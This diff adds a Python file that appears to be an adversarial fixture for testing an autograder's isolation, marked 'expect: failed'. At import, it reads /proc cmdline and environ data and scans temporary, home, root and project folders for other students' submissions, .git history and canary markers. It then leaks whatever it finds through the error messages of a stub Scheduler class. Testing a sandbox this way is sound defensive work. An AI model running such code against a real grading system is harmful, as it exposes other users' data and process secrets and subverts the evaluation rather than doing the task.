@@ -1,0 +1,87 @@
+"""Hunts for other students' work and the project: stores, batch folders, jobs beside it, .git, and leaks it.
+expect: failed
+
+A worker that can read the machine finds a lot: the SQLite store (every student's submissions), the
+batch folder with every student's file, the submissions of jobs running at the same time under the
+temporary folder, and the project with its `.git` history (which holds the hidden suite), the latter
+located through the harness's command line in /proc. This submission looks in all of those places for
+text marked `canary-` (tests plant such canaries where a careless machine would keep those files) and
+for hidden test source, and puts what it finds into every error message it raises.
+"""
+
+import os
+from collections import deque
+
+MARK = "canary" + "-"
+found = []
+
+
+def _look(path):
+    try:
+        with open(path, "rb") as handle:
+            data = handle.read(1 << 16)
+    except OSError:
+        return
+    at = data.find(MARK.encode())
+    if at >= 0:
+        found.append(data[at:at + 80].decode("utf-8", "replace"))
+
+
+def _walk(top, depth):
+    if depth < 0 or len(found) > 20:
+        return
+    try:
+        entries = list(os.scandir(top))
+    except (OSError, ValueError):
+        return
+    for entry in entries:
+        try:
+            if entry.is_symlink():
+                continue
+            if entry.is_dir():
+                if entry.name not in ("proc", "sys", "dev", "usr", "lib", "site-packages"):
+                    _walk(entry.path, depth - 1)
+            elif entry.name.endswith((".py", ".db", ".db-wal", ".csv", ".json", ".txt", ".pack", ".idx")):
+                _look(entry.path)
+        except OSError:
+            continue
+
+
+def _hunt():
+    roots = {"/tmp", "/var/tmp", "/work", "/home", "/root", "/srv", "/job"}
+    for pid in os.listdir("/proc"):
+        if pid.isdigit():
+            for what in ("cmdline", "environ"):
+                _look(f"/proc/{pid}/{what}")
+            try:
+                roots.add(os.readlink(f"/proc/{pid}/cwd"))
+                command = open(f"/proc/{pid}/cmdline", "rb").read().decode("utf-8", "replace")
+                roots.update(part for part in command.replace("\0", " ").replace("'", " ").replace('"', " ").split() if part.startswith("/"))
+            except OSError:
+                pass
+    for root in sorted(roots):
+        _walk(root, 5)
+
+
+_hunt()
+LEAK = " | ".join(found)[:3000] or "nothing found"
+
+
+class Req:
+    def __init__(self, rid, prompt_len, max_new, prefilled=0, generated=0):
+        self.rid, self.prompt_len, self.max_new = rid, prompt_len, max_new
+        self.prefilled, self.generated = prefilled, generated
+
+
+class Scheduler:
+    def __init__(self, token_budget, max_seqs, kv_tokens):
+        self.waiting, self.running, self.reserved = deque(), [], 0
+
+    def add(self, req):
+        raise ValueError(LEAK)
+
+    def schedule(self):
+        raise RuntimeError(LEAK)
+
+    def complete(self, plan):
+        raise RuntimeError(LEAK)
